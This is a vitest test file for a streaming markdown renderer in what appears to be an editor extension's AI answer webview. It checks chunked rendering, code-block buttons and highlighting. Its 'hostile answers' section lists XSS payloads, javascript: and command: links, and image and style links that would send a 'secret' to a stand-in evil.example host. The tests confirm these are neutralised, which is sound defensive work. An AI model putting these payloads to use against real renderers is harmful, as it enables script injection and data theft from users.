// @vitest-environment jsdom
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createAnswerRenderer } from "../../src/webview/answer-renderer.ts";
import { createCodeBlocks } from "../../src/webview/code-block.ts";
import { createHighlight } from "../../src/webview/highlight.ts";
import { createStrings } from "../../src/webview/strings.ts";

const actions: { action: string; code: string; language: string }[] = [];
const codeBlocks = createCodeBlocks({
  strings: createStrings({}),
  highlight: createHighlight(),
  run: (action, code, language) => actions.push({ action, code, language }),
});

/** Draws after every piece, as the page does frame by frame. */
function drawn(pieces: readonly string[]): HTMLElement {
  const container = document.createElement("div");
  const renderer = createAnswerRenderer(container, codeBlocks);
  for (const piece of pieces) {
    renderer.append(piece);
    renderer.draw();
  }
  renderer.finish();
  return container;
}

/** The same drawn in one go, with nothing cut or kept. */
function atOnce(answer: string): HTMLElement {
  const container = document.createElement("div");
  const renderer = createAnswerRenderer(container, codeBlocks);
  renderer.append(answer);
  renderer.finish();
  return container;
}

/** Cuts the text into pieces of these sizes, over and over. */
function split(text: string, sizes: readonly number[]): readonly string[] {
  const pieces: string[] = [];
  for (let at = 0, index = 0; at < text.length; index++) {
    const size = sizes[index % sizes.length] ?? 1;
    pieces.push(text.slice(at, at + size));
    at += size;
  }
  return pieces;
}

const phrases = [
  "plain words that go on for a while and say little",
  "**bold words in it**",
  "an `a | b` and a `__name__` here",
  "snake_case and 2 * 3 * 4 and a_b",
  "[a link](https://example.com/a_b?c=*d) to follow",
  "see https://example.com/模型。然后",
  "an opened *emphasis that is",
  "closed* only later",
  "an open ` tick",
  "one [bracket",
  "closed] (then this)",
  "a < b and <b> tag",
  "[1] and \\* escaped",
  "模型读代码，然后写出它找到的问题。再用句子解释原因",
  "~~gone~~ and ***both*** kinds",
  "hidden\u200b sign",
  "line\nbreak and\n> not quoted",
  "pay 5 | 6",
];

const blocks = [
  "A paragraph with **bold**, `code` and [a link](https://example.com/x?y=1).",
  "# Heading",
  "Setext\n---",
  "- one\n- two\n\n- three\n  1. inner\n\n     text",
  "1. first\n2. second",
  "> quoted\nlazy",
  "| a | b |\n|---|:-:|\n| 1 | `x\\|y` |",
  "```ts\nconst a = 1;\n\nif (a) {}\n```",
  "~~~\nplain ``` inside\n~~~",
  "````md\n```js\nnested\n```\n````",
  "   ```py\n   indented fence\n   ```",
  "    indented code\n    more",
  "- item\n  ```sh\n  in a list\n  ```\n- next",
  "<div>\nhtml <b>here</b>\n</div>",
  "***",
  "中文段落，带有 **粗体** 和 `代码`。",
  "line one  \nline two\\\nline three",
  "```",
  "text then\n```js\nfence after text\n```",
];

describe("an answer drawn piece by piece", () => {
  it("looks like the same answer drawn at once, however it is split", () => {
    const answers = fc
      .tuple(
        fc.array(fc.constantFrom(...blocks), { minLength: 1, maxLength: 6 }),
        fc.constantFrom("\n\n", "\n", "\r\n\r\n"),
      )
      .map(([parts, glue]) => parts.join(glue));
    fc.assert(
      fc.property(
        answers,
        fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 60 }),
        (answer, sizes) => {
          expect(drawn(split(answer, sizes)).innerHTML).toBe(atOnce(answer).innerHTML);
        },
      ),
      { numRuns: 200, seed: 20261123 },
    );
  });

  it("looks the same when a single paragraph is very long", () => {
    const paragraphs = fc
      .tuple(
        fc.array(fc.constantFrom(...phrases), { minLength: 60, maxLength: 200 }),
        fc.constantFrom("", "\n---\n\nafter", "\n===\nafter", "\n\nafter that", "\n- an item\n", "\n```ts\nlet a\n```"),
      )
      .map(([parts, end]) => parts.join(" ") + end);
    const sizes = fc.array(fc.integer({ min: 10, max: 400 }), { minLength: 1, maxLength: 20 });
    fc.assert(
      fc.property(paragraphs, sizes, (answer, each) => {
        expect(drawn(split(answer, each)).innerHTML).toBe(atOnce(answer).innerHTML);
      }),
      { numRuns: 60, seed: 20261123 },
    );
  });

  it("does not draw the beginning of a very long paragraph again", () => {
    const container = document.createElement("div");
    const renderer = createAnswerRenderer(container, codeBlocks);
    renderer.append(`Start with **bold** words. ${"More and more words follow. ".repeat(100)}`);
    renderer.draw();
    const bold = container.querySelector("strong");
    renderer.append("More and more words follow. ".repeat(100));
    renderer.draw();
    expect(container.querySelector("strong")).toBe(bold);
    expect(container.querySelectorAll("p")).toHaveLength(1);
    renderer.append("\n---\n\nNext paragraph that is long enough");
    renderer.draw();
    expect(container.querySelector("h4 strong")).toBe(bold);
    expect(container.querySelectorAll("p")).toHaveLength(1);
  });

  it("loses nothing of the text", () => {
    const answer = blocks.join("\n\n");
    const text = drawn([answer]).textContent ?? "";
    for (const word of [
      "bold",
      "Setext",
      "three",
      "quoted",
      "nested",
      "in a list",
      "html <b>here</b>",
      "粗体",
      "line three",
    ]) {
      expect(text).toContain(word);
    }
  });

  it("shows half a code block while it is written, and gives it its buttons when it is whole", () => {
    const container = document.createElement("div");
    const renderer = createAnswerRenderer(container, codeBlocks);
    renderer.append("```ts\nconst a = 1;\nconst b");
    renderer.draw();
    expect([...container.querySelectorAll("code > span")].map((line) => line.textContent)).toEqual([
      "const a = 1;",
      "const b",
    ]);
    expect(container.querySelectorAll("button")).toHaveLength(0);
    renderer.append(" = 2;\n```\n");
    renderer.draw();
    expect(container.querySelector("pre")?.textContent).toBe("const a = 1;\nconst b = 2;");
    expect([...container.querySelectorAll("button")].map((each) => each.title)).toEqual([
      "Copy code",
      "Insert at cursor",
      "Apply as a change",
    ]);
    container.querySelector("button")?.click();
    expect(actions.at(-1)).toEqual({ action: "copy", code: "const a = 1;\nconst b = 2;", language: "ts" });
    expect(container.querySelector(".hljs-keyword")).not.toBeNull();
  });

  it("colours long code piece by piece when there is time, and loses none of it", async () => {
    const code = Array.from({ length: 400 }, (_, index) => `const value${index} = "<b>" + a\u200b; // &amp;`).join(
      "\n",
    );
    const container = drawn([`\`\`\`ts\n${code.slice(0, 5000)}`, `${code.slice(5000)}\n\`\`\`\n`]);
    const shown = code.replaceAll("\u200b", "U+200B");
    expect(container.querySelector("code")?.textContent).toBe(shown);
    expect(container.querySelector(".hljs-keyword")).toBeNull();
    await expect.poll(() => container.querySelectorAll(".hljs-keyword").length).toBe(400);
    expect(container.querySelector("code")?.textContent).toBe(shown);
    expect(container.querySelectorAll("b")).toHaveLength(0);
    container.querySelector("button")?.click();
    expect(actions.at(-1)?.code).toBe(code);
  });

  it("does not draw finished blocks again", () => {
    const container = document.createElement("div");
    const renderer = createAnswerRenderer(container, codeBlocks);
    renderer.append("First paragraph.\n\nSecond one, longer than any marker");
    renderer.draw();
    const first = container.querySelector("p");
    renderer.append(" grows.\n\nThird");
    renderer.draw();
    expect(container.querySelector("p")).toBe(first);
    expect(container.querySelectorAll("p")).toHaveLength(3);
  });
});

const attacks = [
  "<script>window.hit = 1</script>",
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit=1"><circle /></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:window.hit=1">x</a>',
  "[x](javascript:window.hit=1)",
  "[x](JaVaScRiPt:window.hit=1)",
  "[x](vbscript:msgbox)",
  "[x](data:text/html,<script>window.hit=1</script>)",
  "[x](command:workbench.action.terminal.new)",
  "[x](vscode://publisher.extension)",
  "![leak](https://evil.example/?q=secret)",
  "![leak][r]\n\n[r]: https://evil.example/?q=secret",
  '<style>@import "https://evil.example/x.css"</style>',
  '<form action="https://evil.example"><input name=q></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hit=1">',
  '<div style="background:url(https://evil.example)">x</div>',
  "```html\n<img src=x onerror=alert(1)>\n```",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>1</script> | [y](javascript:1) |",
  "<https://evil.example/%22onmouseover=%22x>",
  '[a"onclick="window.hit=1](https://x.example/"onclick="y)',
];
const allowed = new Set(
  "A B BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL I".split(
    " ",
  ),
);

describe("hostile answers", () => {
  it("become text or harmless elements, wherever they are split", () => {
    for (const attack of attacks) {
      for (let at = 0; at <= attack.length; at++) {
        const container = drawn([`Before. ${attack.slice(0, at)}`, `${attack.slice(at)} after.\n`]);
        for (const node of container.querySelectorAll("*")) {
          expect(allowed, `${attack} made ${node.tagName}`).toContain(node.tagName);
          for (const { name, value } of node.attributes) {
            expect(["href", "src", "style", "action", "srcdoc"], attack).not.toContain(name);
            expect(name.startsWith("on"), `${attack} kept ${name}`).toBe(false);
            if (name === "data-href") expect(value, attack).toMatch(/^(?:https?|mailto):/i);
          }
        }
      }
    }
    expect(Reflect.get(window, "hit")).toBeUndefined();
  });

  it("cannot make an image load: its address is shown as text", () => {
    const container = drawn(["See ![chart](https://evil.example/?q=secret)"]);
    expect(container.querySelector("img")).toBeNull();
    expect(container.textContent).toContain("[chart: https://evil.example/?q=secret]");
  });

  it("cannot hide characters that turn text around or take no width", () => {
    const container = drawn(["pay\u202e321\u202c and zero\u200bwidth\n\n```js\nif (admin\u2066) {}\n```\n"]);
    expect([...container.querySelectorAll(".hidden-character")].map((mark) => mark.textContent)).toEqual([
      "U+202E",
      "U+202C",
      "U+200B",
      "U+2066",
    ]);
    expect(drawn(["family 👨‍👩‍👧 and flag 🏳️‍🌈"]).querySelector(".hidden-character")).toBeNull();
  });
});

describe("list markers in a row", () => {
  it("are shown as they are: as lists in lists nothing of them would be seen", () => {
    const count = Array.from({ length: 3000 }, (_, at) => `${at + 1}. `);
    for (const container of [drawn(["1. ", ...count]), atOnce(`1. ${count.join("")}`)]) {
      expect(container.textContent?.replace(/\s+/g, " ").trim()).toBe(`1. ${count.join("")}`.trim());
      expect(container.querySelectorAll("li").length).toBeLessThan(4);
    }
  });

  it("are lists and rules where they are few or nothing else", () => {
    expect(atOnce("1. - two\n   - three").querySelectorAll("li")).toHaveLength(3);
    expect(atOnce("before\n\n* * * * *\n\nafter").querySelectorAll("hr")).toHaveLength(1);
    expect(atOnce("- - - -\n").querySelectorAll("hr")).toHaveLength(1);
  });
});
